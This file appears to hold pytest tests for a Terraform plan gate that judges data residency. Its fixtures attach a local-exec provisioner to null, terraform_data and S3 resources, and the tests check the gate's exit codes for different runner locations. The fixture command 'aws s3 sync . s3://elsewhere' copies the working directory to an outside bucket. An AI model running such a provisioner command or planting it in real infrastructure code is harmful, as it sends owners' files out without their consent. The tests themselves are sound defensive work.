"""Attack: an object that holds nothing runs a program as it is made, which sends data anywhere."""

from pathlib import Path
from typing import Any

import pytest
from simulators.plans import AWS, a_plan, gate_exit

NULL = "registry.terraform.io/hashicorp/null"
BUILT_IN = "terraform.io/builtin/terraform"
RUNS = [{"type": "local-exec", "expressions": {"command": {"constant_value": "aws s3 sync . s3://elsewhere"}}}]


def _plan(kind: str, source: str, *, actions: list[str]) -> dict[str, Any]:
    plan = a_plan(kind, {"triggers": None}, provider=source)
    plan["configuration"]["root_module"]["resources"][0]["provisioners"] = RUNS
    plan["resource_changes"][0]["change"]["actions"] = actions
    return plan


@pytest.mark.parametrize(
    ("kind", "source"), [("null_resource", NULL), ("terraform_data", BUILT_IN), ("aws_s3_bucket", AWS)]
)
@pytest.mark.parametrize("actions", [["create"], ["delete", "create"], ["create", "delete"]])
def test_program_of_the_runner_needs_the_runners_place(
    kind: str, source: str, actions: list[str], tmp_path: Path
) -> None:
    """Undecided until somebody states where the runner is, and then decided by that place."""
    plan = _plan(kind, source, actions=actions)
    assert gate_exit(plan, tmp_path) == 4
    assert gate_exit(plan, tmp_path, "--assume", "runner=DE") == 0
    assert gate_exit(plan, tmp_path, "--assume", "runner=US") == 1


@pytest.mark.parametrize("actions", [["update"], ["no-op"]])
def test_program_that_does_not_run_is_not_asked_about(actions: list[str], tmp_path: Path) -> None:
    """Programs run when an object is made; one that exists is judged by its place."""
    assert gate_exit(_plan("aws_s3_bucket", AWS, actions=actions), tmp_path) == 0
